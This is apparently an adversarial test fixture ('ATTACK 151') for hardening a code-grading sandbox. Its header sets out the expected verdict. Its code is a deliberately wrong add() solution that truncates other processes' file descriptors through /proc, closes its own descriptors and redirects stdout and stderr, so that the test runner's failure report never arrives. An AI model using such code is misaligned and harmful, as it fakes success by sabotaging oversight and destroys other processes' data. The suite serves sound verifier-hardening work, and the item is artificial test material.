# ATTACK 151 close_redirect_result_fd
# KIND: verdict
# STYLE: unittest
# TASK: implement add(a, b) -> a + b; unittest.TestCase tests are appended and run in-process.
# ATTEMPTS: wrong solution that attacks the result channel itself: closes or redirects every fd
#           of its own process (0-1023), dup2s a pipe over stdout and stderr, then reaches for the
#           test runner's fds through /proc/<pid>/fd (open, truncate) to cut or replace its
#           channel, so a failing report never arrives.
# CORRECT SANDBOX MUST: (verifier) the runner's channel is out of the solution's reach; a missing
#           report fails the solution.
# HARNESS CHECK: graded failing, not an infrastructure error.
import contextlib
import os

me = os.getpid()
hit = []
for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
    try:
        for n in os.listdir(f"/proc/{pid}/fd"):
            try:
                fd = os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY | os.O_TRUNC | os.O_NONBLOCK)
                os.close(fd)
                hit.append(f"{pid}/{n}")
            except OSError:
                pass
    except OSError:
        pass
r, w = os.pipe()
for fd in range(3, 1024):
    if fd not in (r, w):
        with contextlib.suppress(OSError):
            os.close(fd)
os.dup2(w, 1)
os.dup2(w, 2)


def add(a, b):
    return a + b + 1
